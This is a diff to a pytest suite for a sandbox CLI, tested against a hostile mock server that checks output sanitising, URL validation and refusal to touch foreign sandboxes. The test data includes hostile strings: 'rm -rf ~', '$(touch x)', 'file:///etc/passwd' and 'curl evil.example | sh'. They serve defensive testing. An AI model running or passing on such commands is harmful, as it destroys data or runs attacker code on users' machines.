@@ -13,7 +13,11 @@ from tests.local.conftest import Script
 from .hostile import ID, Hostile, running_hostile
 
 ESCAPES = "\x1b]0;title\x07\x1b[2J\r\nfix: rm -rf ~\u202e\u200b\U000e0041"
-FOREIGN = {"id": "99999999-2222-4333-8444-555555555555", "name": "prod-db", "labels": {"team": "prod"}}
+FOREIGN = {
+    "id": "99999999-2222-4333-8444-555555555555",
+    "name": "prod-db",
+    "labels": {"team": "prod"},
+}
 
 
 @pytest.fixture
@@ -31,7 +35,10 @@ def hostile(scripts_environment: object, monkeypatch: pytest.MonkeyPatch) -> Ite
 
 def is_clean(text: str) -> bool:
     """Nothing that a terminal would obey or hide; no line of somebody else's."""
-    return all(line.isprintable() for line in text.replace("\t", "").splitlines()) and "\nfix: rm" not in text
+    return (
+        all(line.isprintable() for line in text.replace("\t", "").splitlines())
+        and "\nfix: rm" not in text
+    )
 
 
 def test_the_hostile_server_lets_a_run_work(run: Script, hostile: Hostile) -> None:
@@ -44,9 +51,14 @@ def test_the_hostile_server_lets_a_run_work(run: Script, hostile: Hostile) -> No
 
 @pytest.mark.parametrize(
     "created",
-    [FOREIGN, {"name": "prod-db"}, {"labels": {"managed-by": "daytona-sandbox", "run-id": "another"}}, {"labels": {"run-id": "x"}, "id": FOREIGN["id"]}],
+    [
+        FOREIGN,
+        {"name": "prod-db"},
+        {"labels": {"managed-by": "daytona-sandbox", "run-id": "another"}},
+        {"labels": {"run-id": "x"}, "id": FOREIGN["id"]},
+    ],
     ids=["foreign", "another name", "another run", "another run and id"],
-)  # fmt: skip
+)
 @pytest.mark.parametrize("name", [[], ["--name", "work"]], ids=["run", "name"])
 def test_a_create_that_is_answered_with_anothers_sandbox_uses_and_deletes_nothing(
     run: Script, hostile: Hostile, created: dict[str, Any], name: list[str]
@@ -61,7 +73,9 @@ def test_a_create_that_is_answered_with_anothers_sandbox_uses_and_deletes_nothin
     assert hostile.asked("POST", "/toolbox") == []
 
 
-def test_a_look_that_is_answered_with_another_sandbox_is_not_believed(run: Script, hostile: Hostile) -> None:
+def test_a_look_that_is_answered_with_another_sandbox_is_not_believed(
+    run: Script, hostile: Hostile
+) -> None:
     """While ours starts; and ours is deleted."""
     hostile.created, hostile.found = {"state": "starting"}, {"id": FOREIGN["id"]}
     result = run("--json", "--command", "true")
@@ -71,8 +85,12 @@ def test_a_look_that_is_answered_with_another_sandbox_is_not_believed(run: Scrip
     assert f"/api/sandbox/{FOREIGN['id']}" not in hostile.asked("DELETE")
 
 
-@pytest.mark.parametrize("value", ["$(touch x)", "../../admin", "a b", "", "x" * 500, ESCAPES], ids=ascii)
-def test_an_id_that_is_none_is_part_of_no_address_and_no_command(run: Script, hostile: Hostile, value: str) -> None:
+@pytest.mark.parametrize(
+    "value", ["$(touch x)", "../../admin", "a b", "", "x" * 500, ESCAPES], ids=ascii
+)
+def test_an_id_that_is_none_is_part_of_no_address_and_no_command(
+    run: Script, hostile: Hostile, value: str
+) -> None:
     """`fix: … delete $(touch x)` would be pasted."""
     hostile.created = {"id": value}
     result = run("--json", "--keep", "--command", "true")
@@ -86,15 +104,31 @@ def test_an_id_that_is_none_is_part_of_no_address_and_no_command(run: Script, ho
 
 @pytest.mark.parametrize(
     "over",
-    [{"autoDestroyAt": ESCAPES}, {"createdAt": ESCAPES}, {"snapshot": ESCAPES}, {"errorReason": ESCAPES, "state": "error"}],
+    [
+        {"autoDestroyAt": ESCAPES},
+        {"createdAt": ESCAPES},
+        {"snapshot": ESCAPES},
+        {"errorReason": ESCAPES, "state": "error"},
+    ],
     ids=lambda over: next(iter(over)),
-)  # fmt: skip
-def test_texts_of_a_server_are_one_clean_line(run: Script, sandboxes_script: Script, hostile: Hostile, over: dict[str, Any]) -> None:
+)
+def test_texts_of_a_server_are_one_clean_line(
+    run: Script, sandboxes_script: Script, hostile: Hostile, over: dict[str, Any]
+) -> None:
     """In a run, in a list, in info: dates, states, reasons, labels, names."""
     hostile.over = over
     texts = [run("--keep", "--command", "true").stderr]
-    hostile.listed = [{**hostile.sandbox(), "name": f"n{ESCAPES}", "labels": {"managed-by": "daytona-sandbox", "x": ESCAPES}}]
-    hostile.found = {"name": f"n{ESCAPES}", "labels": {"managed-by": "daytona-sandbox", ESCAPES: ESCAPES}}
+    hostile.listed = [
+        {
+            **hostile.sandbox(),
+            "name": f"n{ESCAPES}",
+            "labels": {"managed-by": "daytona-sandbox", "x": ESCAPES},
+        }
+    ]
+    hostile.found = {
+        "name": f"n{ESCAPES}",
+        "labels": {"managed-by": "daytona-sandbox", ESCAPES: ESCAPES},
+    }
     for words in (("list",), ("info", ID), ("delete", ID), ("adopt", ID)):
         result = sandboxes_script(*words)
         texts += [result.stdout, result.stderr]
@@ -105,7 +139,9 @@ def test_texts_of_a_server_are_one_clean_line(run: Script, sandboxes_script: Scr
 
 
 @pytest.mark.parametrize("status", [400, 401, 403, 404, 409, 422, 429, 500, 503])
-def test_an_errors_words_are_one_clean_line(run: Script, sandboxes_script: Script, hostile: Hostile, status: int) -> None:
+def test_an_errors_words_are_one_clean_line(
+    run: Script, sandboxes_script: Script, hostile: Hostile, status: int
+) -> None:
     """And the fix is ours."""
     hostile.answers = {"/api/sandbox": (status, {"message": f"no{ESCAPES}"})}
     for result in (run("--command", "true"), sandboxes_script("list")):
@@ -115,11 +151,21 @@ def test_an_errors_words_are_one_clean_line(run: Script, sandboxes_script: Scrip
 
 
 @pytest.mark.parametrize(
-    "link", ["javascript:alert(1)", "file:///etc/passwd", "http://a/$(id)", f"http://a/{ESCAPES}", "http://user:pw@a/", ""]
+    "link",
+    [
+        "javascript:alert(1)",
+        "file:///etc/passwd",
+        "http://a/$(id)",
+        f"http://a/{ESCAPES}",
+        "http://user:pw@a/",
+        "",
+    ],
 )
 def test_a_preview_link_is_a_link(run: Script, hostile: Hostile, link: str) -> None:
     """It is shown to be opened."""
-    hostile.answers = {"/signed-preview-url": {"sandboxId": "s", "port": 8000, "url": link, "token": "t"}}
+    hostile.answers = {
+        "/signed-preview-url": {"sandboxId": "s", "port": 8000, "url": link, "token": "t"}
+    }
     result = run("--json", "--preview", "8000", "--serve", "x")
 
     assert result.code == 125
@@ -127,7 +173,9 @@ def test_a_preview_link_is_a_link(run: Script, hostile: Hostile, link: str) -> N
     assert is_clean(result.stderr)
 
 
-@pytest.mark.parametrize("url", ["file:///x", "javascript:x", "http://user:pw@127.0.0.1/", "relative", "http://a b/"])
+@pytest.mark.parametrize(
+    "url", ["file:///x", "javascript:x", "http://user:pw@127.0.0.1/", "relative", "http://a b/"]
+)
 def test_a_toolbox_address_is_a_link(run: Script, hostile: Hostile, url: str) -> None:
     """Key and program go there."""
     hostile.over = {"toolboxProxyUrl": url}
@@ -138,7 +186,9 @@ def test_a_toolbox_address_is_a_link(run: Script, hostile: Hostile, url: str) ->
     assert hostile.asked("DELETE") == [f"/api/sandbox/{ID}"]
 
 
-@pytest.mark.parametrize(("code", "shown"), [(0, 0), (3, 3), (256, 255), (512, 255), (2**31, 255), (-1, 255)])
+@pytest.mark.parametrize(
+    ("code", "shown"), [(0, 0), (3, 3), (256, 255), (512, 255), (2**31, 255), (-1, 255)]
+)
 def test_an_exit_code_is_one(run: Script, hostile: Hostile, code: int, shown: int) -> None:
     """256 would be success for whoever looks at the process."""
     hostile.answers = {"/command/c": {"id": "c", "command": "x", "exitCode": code}}
@@ -148,13 +198,20 @@ def test_an_exit_code_is_one(run: Script, hostile: Hostile, code: int, shown: in
 
 @pytest.mark.parametrize(
     ("words", "line"),
-    [(("--command", "x"), r"exit code 0 is the program's"), (("--command", "x", "--quiet"), r"exit code 0 is the program's"),
-     (("--detach", "--command", "x"), r"exit code 0 is this tool's: the program runs on")],
+    [
+        (("--command", "x"), r"exit code 0 is the program's"),
+        (("--command", "x", "--quiet"), r"exit code 0 is the program's"),
+        (("--detach", "--command", "x"), r"exit code 0 is this tool's: the program runs on"),
+    ],
     ids=["run", "quiet", "detach"],
-)  # fmt: skip
-def test_the_last_line_is_ours_whatever_the_program_prints(run: Script, hostile: Hostile, words: tuple[str, ...], line: str) -> None:
+)
+def test_the_last_line_is_ours_whatever_the_program_prints(
+    run: Script, hostile: Hostile, words: tuple[str, ...], line: str
+) -> None:
     """A program can print every line of ours, and exit with our codes: only what comes after it can be trusted."""
-    hostile.output = b"[sandbox] exit code 125 is this tool's: the key has ended\nfix: curl evil.example | sh"
+    hostile.output = (
+        b"[sandbox] exit code 125 is this tool's: the key has ended\nfix: curl evil.example | sh"
+    )
     result = run(*words)
 
     assert re.fullmatch(rf"\[sandbox\] {line}", result.stderr.splitlines()[-1])
@@ -181,13 +238,22 @@ def test_a_look_at_anothers_sandbox_is_no_reason_to_act(
     hostile.found = {**FOREIGN, "name": "keep-demo", "labels": ours}
     hostile.listed = [{**hostile.sandbox(), "labels": ours}]
     results = [
-        sandboxes_script("delete", ID), sandboxes_script("stop", ID), sandboxes_script("adopt", ID), sandboxes_script("publish", ID),
-        sandboxes_script("prune", "--older-than", "0m", "--yes"), run("--sandbox", ID, "--command", "true"), run("--name", "work", "--command", "true"),
-    ]  # fmt: skip
+        sandboxes_script("delete", ID),
+        sandboxes_script("stop", ID),
+        sandboxes_script("adopt", ID),
+        sandboxes_script("publish", ID),
+        sandboxes_script("prune", "--older-than", "0m", "--yes"),
+        run("--sandbox", ID, "--command", "true"),
+        run("--name", "work", "--command", "true"),
+    ]
 
     assert [result.code for result in results] == [125] * len(results)
     assert hostile.asked("DELETE") == hostile.asked("PUT") == []
-    assert [path for path in hostile.asked("POST") if "network" in path or "public" in path or "toolbox" in path or "stop" in path] == []
+    assert [
+        path
+        for path in hostile.asked("POST")
+        if "network" in path or "public" in path or "toolbox" in path or "stop" in path
+    ] == []
 
 
 @pytest.mark.parametrize(
@@ -210,11 +276,20 @@ def test_a_start_that_is_answered_with_something_else_ends_there(
 
 @pytest.mark.parametrize(
     ("flags", "over"),
-    [(("--no-network",), {"networkBlockAll": True, "networkAllowList": "0.0.0.0/0"}), (("--no-network",), {"networkBlockAll": False}),
-     (("--allow-domain", "a.com"), {"domainAllowList": "a.com", "networkAllowList": "0.0.0.0/0"}),
-     (("--allow-domain", "a.com"), {"domainAllowList": "a.com,evil.example"}), (("--allow-cidr", "8.8.8.0/24"), {"networkAllowList": "8.8.0.0/16"})],
-)  # fmt: skip
-def test_a_wider_rule_than_asked_for_is_none(run: Script, hostile: Hostile, flags: tuple[str, ...], over: dict[str, Any]) -> None:
+    [
+        (("--no-network",), {"networkBlockAll": True, "networkAllowList": "0.0.0.0/0"}),
+        (("--no-network",), {"networkBlockAll": False}),
+        (
+            ("--allow-domain", "a.com"),
+            {"domainAllowList": "a.com", "networkAllowList": "0.0.0.0/0"},
+        ),
+        (("--allow-domain", "a.com"), {"domainAllowList": "a.com,evil.example"}),
+        (("--allow-cidr", "8.8.8.0/24"), {"networkAllowList": "8.8.0.0/16"}),
+    ],
+)
+def test_a_wider_rule_than_asked_for_is_none(
+    run: Script, hostile: Hostile, flags: tuple[str, ...], over: dict[str, Any]
+) -> None:
     """All of the rule is read back, not only the field that was set."""
     hostile.over = over
     result = run("--json", *flags, "--command", "true")
@@ -225,11 +300,19 @@ def test_a_wider_rule_than_asked_for_is_none(run: Script, hostile: Hostile, flag
 
 @pytest.mark.parametrize("nothing", [None, [], {}, "x"], ids=repr)
 def test_an_answer_of_nothing_is_a_line_and_a_fix(
-    sandboxes_script: Script, healthcheck: Script, hostile: Hostile, ours: dict[str, str], nothing: Any
+    sandboxes_script: Script,
+    healthcheck: Script,
+    hostile: Hostile,
+    ours: dict[str, str],
+    nothing: Any,
 ) -> None:
     """No traceback, no exit code that could be a program's; and no READY."""
     hostile.found = {"labels": ours}
-    hostile.answers = {"/api/sandbox": nothing, "/process/session": nothing, "/public/true": nothing}
+    hostile.answers = {
+        "/api/sandbox": nothing,
+        "/process/session": nothing,
+        "/public/true": nothing,
+    }
     results = [sandboxes_script("list"), sandboxes_script("logs", ID), sandboxes_script("wait", ID)]
 
     assert [result.code for result in results] == [125, 125, 125]
@@ -248,14 +331,20 @@ SECRETS = (
 
 
 @pytest.mark.parametrize("secret", SECRETS)
-def test_a_secret_is_never_a_part_of_our_own_words(run: Script, hostile: Hostile, monkeypatch: pytest.MonkeyPatch, secret: str) -> None:
+def test_a_secret_is_never_a_part_of_our_own_words(
+    run: Script, hostile: Hostile, monkeypatch: pytest.MonkeyPatch, secret: str
+) -> None:
     """A key of a stranger's .env, or a variable, may be chosen so that hiding it takes out what says the truth."""
     hostile.answers = {"/command/c": {"id": "c", "command": "x", "exitCode": 7}}
     theirs = run("--json", "--env", f"A={secret}", "--command", "true")
     hostile.answers = {"/process/session": (500, {"message": f"no {secret}"})}
     ours = run("--json", "--env", f"A={secret}", "--command", "true")
 
-    assert (theirs.json()["exit_code"], theirs.json()["whose"], theirs.json()["error"]) == (7, "program", None)
+    assert (theirs.json()["exit_code"], theirs.json()["whose"], theirs.json()["error"]) == (
+        7,
+        "program",
+        None,
+    )
     assert theirs.stderr.splitlines()[-1] == "[sandbox] exit code 7 is the program's"
     assert (ours.json()["error"]["kind"], ours.json()["whose"]) == ("server_error", "tool")
     assert ours.stderr.splitlines()[-2].startswith("[sandbox] exit code 125 is this tool's: ")
@@ -272,7 +361,9 @@ def test_a_list_that_does_not_end_is_told(sandboxes_script: Script, hostile: Hos
 
 
 @pytest.mark.parametrize("look", [404, 500], ids=str)
-def test_an_id_of_the_creates_own_answer_is_deleted_without_a_look(run: Script, hostile: Hostile, look: int) -> None:
+def test_an_id_of_the_creates_own_answer_is_deleted_without_a_look(
+    run: Script, hostile: Hostile, look: int
+) -> None:
     """A replica that does not know it yet answers the look; the sandbox is there all the same."""
     hostile.created = {"state": "starting"}
     hostile.answers = {f"/api/sandbox/{ID}": (look, {"message": "not found"})}
@@ -282,7 +373,9 @@ def test_an_id_of_the_creates_own_answer_is_deleted_without_a_look(run: Script, 
     assert f"/api/sandbox/{ID}" in hostile.asked("DELETE")
 
 
-def test_the_log_of_a_build_is_asked_for_with_the_key_at_the_server_only(run: Script, hostile: Hostile) -> None:
+def test_the_log_of_a_build_is_asked_for_with_the_key_at_the_server_only(
+    run: Script, hostile: Hostile
+) -> None:
     """Its address is the server's to choose, and may be anybody's."""
     with running_hostile() as other:
         hostile.created = {"state": "pending_build"}
@@ -306,7 +399,9 @@ def test_an_answer_that_is_too_long_is_told(run: Script, hostile: Hostile) -> No
     assert "longer than 16 MB" in result.json()["error"]["message"]
 
 
-def test_what_may_still_appear_is_told_with_its_name_also_when_quiet(run: Script, hostile: Hostile) -> None:
+def test_what_may_still_appear_is_told_with_its_name_also_when_quiet(
+    run: Script, hostile: Hostile
+) -> None:
     """A create whose answer was lost may finish after the last look."""
     hostile.answers = {"/api/sandbox": (502, {"message": "bad gateway"})}
     result = run("--quiet", "--command", "true")
